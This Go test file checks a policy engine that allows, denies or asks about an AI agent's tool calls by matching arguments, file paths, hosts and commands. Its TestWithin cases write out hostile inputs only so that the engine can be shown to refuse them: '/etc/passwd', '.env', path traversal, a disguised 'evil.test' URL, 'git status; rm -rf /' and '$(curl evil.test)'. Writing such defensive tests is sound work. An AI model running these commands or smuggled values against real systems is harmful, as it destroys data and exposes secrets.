package policy_test

import (
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/remitrun/remit/internal/authority/policy"
	"github.com/remitrun/remit/internal/base/tool"
)

// args reads JSON arguments, numbers kept.
func args(t testing.TB, s string) tool.Args {
	t.Helper()
	d := json.NewDecoder(strings.NewReader(s))
	d.UseNumber()
	var a tool.Args
	if err := d.Decode(&a); err != nil {
		t.Fatal(err)
	}
	return a
}

func decideArgs(t testing.TB, src, json string) policy.Decision {
	t.Helper()
	c := chain(t, src)
	call := policy.Call{Tool: &tool.Spec{ID: "mcp:s:t", Source: "mcp"}, Args: args(t, json)}
	call.Actions = c.Within(call.Tool, call.Args)
	return c.Decide(call)
}

func TestConstraints(t *testing.T) {
	tests := []struct {
		args, call string
		allow      bool // an allow entry with these args matches
		deny       bool // a deny entry with these args matches
	}{
		{`x: a`, `{"x": "a"}`, true, true},
		{`x: a`, `{"x": "b"}`, false, false},
		{`x: a`, `{}`, false, true},
		{`x: "5"`, `{"x": 5}`, false, true},
		{`x: a`, `{"x": "a", "y": 1}`, false, true},
		{`x: {}`, `{"x": null}`, true, true},
		{`x: {}`, `{}`, false, true},
		{`x: {optional: true}`, `{}`, true, false},
		{`x: {equals: a, optional: true}`, `{}`, true, false},
		{`x: {equals: a, optional: true}`, `{"x": "b"}`, false, false},
		{`x: 1`, `{"x": 1.0}`, true, true},
		{`x: 1`, `{"x": 1e0}`, true, true},
		{`x: 12345678901234567890123`, `{"x": 12345678901234567890123}`, true, true},
		{`x: 12345678901234567890123`, `{"x": 12345678901234567890124}`, false, false},
		{`x: 1`, `{"x": 1e999999999}`, false, true},
		{`x: 0.1`, `{"x": 0.10}`, true, true},
		{`x: [a, 1]`, `{"x": ["a", 1]}`, true, true},
		{`x: [a, 1]`, `{"x": [1, "a"]}`, false, true},
		{`x: {equals: {a: b}}`, `{"x": {"a": "b"}}`, true, true},
		{`x: {equals: {a: b}}`, `{"x": {"a": "b", "c": 1}}`, false, false},
		{`x: {one_of: [a, 2, null]}`, `{"x": 2}`, true, true},
		{`x: {one_of: [a, 2, null]}`, `{"x": null}`, true, true},
		{`x: {one_of: [a, b]}`, `{"x": "c"}`, false, false},
		{`x: {glob: "a*"}`, `{"x": "abc"}`, true, true},
		{`x: {glob: "a*"}`, `{"x": "a/c"}`, false, false},
		{`x: {glob: "a*"}`, `{"x": 1}`, false, true},
		{`x: {regex: "a|b"}`, `{"x": "a"}`, true, true},
		{`x: {regex: "a|b"}`, `{"x": "ab"}`, false, false},
		{`x: {regex: "a"}`, `{"x": "a\n"}`, false, false},
		{`x: {regex: "(?m)^a$"}`, `{"x": "a\nrm"}`, false, false},
		{`x: {min: 1, max: 10}`, `{"x": 10}`, true, true},
		{`x: {min: 1, max: 10}`, `{"x": 10.5}`, false, false},
		{`x: {min: 1}`, `{"x": "5"}`, false, true},
		{`x: {min: -9223372036854775809}`, `{"x": -9223372036854775810}`, false, false},
		{`x: {min_length: 2, max_length: 3}`, `{"x": "éé"}`, true, true},
		{`x: {max_length: 1}`, `{"x": [1, 2]}`, false, false},
		{`x: {max_length: 1}`, `{"x": 12}`, false, true},
		{`x: {each: "*@a.com"}`, `{"x": ["q@a.com", "r@a.com"]}`, true, true},
		{`x: {each: "*@a.com"}`, `{"x": ["q@a.com", "r@b.com"]}`, false, true},
		{`x: {each: "*@a.com"}`, `{"x": ["r@b.com"]}`, false, false},
		{`x: {each: "*@a.com"}`, `{"x": []}`, true, true},
		{`x: {each: "*@a.com"}`, `{"x": "q@a.com"}`, false, true},
		{`x: {each: {min: 1}, max_length: 2}`, `{"x": [1, 2, 3]}`, false, false},
		{`m.to: a`, `{"m": {"to": "a"}}`, true, true},
		{`m.to: a`, `{"m": {"to": "a", "cc": "b"}}`, false, true},
		{`m.to: a`, `{"m.to": "a"}`, false, true},
		{`m.to: a`, `{"m": {"to": "a"}, "m.to": "evil"}`, false, true},
		{`'m\.to': a`, `{"m.to": "a"}`, true, true},
		{`m.to: a`, `{"m": "a"}`, false, true},
		{`m.to: {optional: true}`, `{}`, true, false},
		{``, `{}`, true, true},
		{``, `{"x": 1}`, false, true},
	}
	for _, tt := range tests {
		d := decideArgs(t, fmt.Sprintf("tools: {allow: [{tool: 'mcp:s:t', args: {%s}}]}", tt.args), tt.call)
		if (d.Effect == policy.Allow) != tt.allow {
			t.Errorf("allow {%s} on %s: %v (%s)", tt.args, tt.call, d.Effect, d.Reason)
		}
		d = decideArgs(t, fmt.Sprintf("tools: {allow: ['**'], deny: [{tool: 'mcp:s:t', args: {%s}}]}", tt.args), tt.call)
		if (d.Effect == policy.Deny) != tt.deny {
			t.Errorf("deny {%s} on %s: %v (%s)", tt.args, tt.call, d.Effect, d.Reason)
		}
	}
}

func TestOthersOpensAnEntry(t *testing.T) {
	src := "tools: {allow: [{tool: 'mcp:s:t', args: {x: a, m.to: b}, others: allow}]}"
	if d := decideArgs(t, src, `{"x": "a", "y": 1, "m": {"to": "b", "cc": 1}}`); d.Effect != policy.Allow {
		t.Error(d.Reason)
	}
	if d := decideArgs(t, src, `{"x": "b", "m": {"to": "b"}}`); d.Effect != policy.Deny || !strings.Contains(d.Reason, "x") {
		t.Error(d.Reason)
	}
}

func TestWithin(t *testing.T) {
	src := `
files: {read: {allow: ["**"], deny: ["private/**"]}}
network: {allow: [api.example.com]}
commands: {allow: ["git status **"]}
tools:
  allow:
    - tool: "mcp:s:t"
      args:
        path: {within: files.read, base: ".", optional: true}
        raw: {within: files.read, optional: true}
        url: {within: network, optional: true}
        cmd: {within: commands, optional: true}
        all: {each: {within: files.read, base: sub}, optional: true}
`
	tests := []struct {
		call string
		want policy.Effect
	}{
		{`{"path": "a.txt"}`, policy.Allow},
		{`{"path": "/ws/a.txt"}`, policy.Allow},
		{`{"path": "./a//b/"}`, policy.Allow},
		{`{"path": "private/a"}`, policy.Deny},
		{`{"path": "PRIVATE/a"}`, policy.Deny},
		{`{"path": "/etc/passwd"}`, policy.Deny},
		{`{"path": "../x"}`, policy.Deny},
		{`{"path": "a/../b"}`, policy.Deny},
		{`{"path": "~/x"}`, policy.Deny},
		{`{"path": "file:///ws/x"}`, policy.Deny},
		{`{"path": ""}`, policy.Deny},
		{`{"path": 5}`, policy.Deny},
		{`{"path": ".env"}`, policy.Deny},
		{`{"path": " /etc/passwd"}`, policy.Deny},
		{`{"path": "a.txt\n"}`, policy.Deny},
		{`{"raw": "a.txt"}`, policy.Deny},
		{`{"raw": "/ws/a.txt"}`, policy.Allow},
		{`{"url": "https://api.example.com/x"}`, policy.Allow},
		{`{"url": "https://evil.test/"}`, policy.Deny},
		{`{"url": "https://api.example.com@evil.test/"}`, policy.Deny},
		{`{"cmd": "git status"}`, policy.Allow},
		{`{"cmd": ["git", "status", "-s"]}`, policy.Allow},
		{`{"cmd": "git status; rm -rf /"}`, policy.Deny},
		{`{"cmd": "$(curl evil.test)"}`, policy.Deny},
		{`{"cmd": "((git status))"}`, policy.Deny},
		{`{"all": ["a", "b"]}`, policy.Allow},
		{`{"all": ["a", "/etc/passwd"]}`, policy.Deny},
	}
	for _, tt := range tests {
		if d := decideArgs(t, src, tt.call); d.Effect != tt.want {
			t.Errorf("%s: %v (%s), want %v", tt.call, d.Effect, d.Reason, tt.want)
		}
	}
	// More than a decision can list is refused, and soon.
	for n, want := range map[int]policy.Effect{900: policy.Allow, 200_000: policy.Deny} {
		var list strings.Builder
		for i := range n {
			fmt.Fprintf(&list, ", %q", strconv.Itoa(i))
		}
		begun := time.Now()
		if d := decideArgs(t, src, `{"all": [`+list.String()[2:]+"]}"); d.Effect != want || time.Since(begun) > 20*time.Second {
			t.Errorf("%d paths: %v after %v, want %v", n, d.Effect, time.Since(begun), want)
		}
	}
	// Whoever forgets to ask for the actions is refused, not let through.
	call := policy.Call{Tool: &tool.Spec{ID: "mcp:s:t", Source: "mcp"}, Args: args(t, `{"path": "private/a"}`)}
	if d := chain(t, src).Decide(call); d.Effect != policy.Deny {
		t.Error("within was skipped")
	}
}

func TestToolRules(t *testing.T) {
	tests := []struct {
		src    string
		id     tool.ID
		source string
		risk   tool.Risk
		want   policy.Effect
	}{
		{"", "time.now", "builtin", tool.Low, policy.Allow},
		{"", "mcp:a:b", "mcp", tool.Low, policy.Deny},
		{"tools: {allow: []}", "time.now", "builtin", tool.Low, policy.Deny},
		{"tools: {deny: ['time.*']}", "time.now", "builtin", tool.Low, policy.Deny},
		{"tools: {deny: ['time.*']}", "random.bytes", "builtin", tool.Low, policy.Allow},
		{"tools: {ask: ['time.*']}", "time.now", "builtin", tool.Low, policy.Ask},
		{"tools: {ask_from_risk: high}", "time.now", "builtin", tool.High, policy.Ask},
		{"tools: {ask_from_risk: high}", "time.now", "builtin", tool.Medium, policy.Allow},
		{"tools: {ask_from_risk: low}", "mcp:a:b", "mcp", tool.High, policy.Deny},
		{"tools: {allow: ['mcp:a:*'], ask_from_risk: low}", "mcp:a:b", "mcp", tool.High, policy.Ask},
		{"tools: {allow: ['mcp:a:*'], deny: ['mcp:*:b']}", "mcp:a:b", "mcp", tool.Low, policy.Deny},
		{"tools: {allow: ['mcp:**'], deny: ['mcp:*:Del*']}", "mcp:a:x:delete", "mcp", tool.Low, policy.Deny},
	}
	for _, tt := range tests {
		d := chain(t, tt.src).Decide(policy.Call{Tool: &tool.Spec{ID: tt.id, Source: tt.source, Risk: tt.risk}})
		if d.Effect != tt.want {
			t.Errorf("%q on %s: %v (%s), want %v", tt.src, tt.id, d.Effect, d.Reason, tt.want)
		}
	}
	if d := chain(t, "").Decide(policy.Call{}); d.Effect != policy.Deny {
		t.Error("a call without a tool is allowed")
	}
}
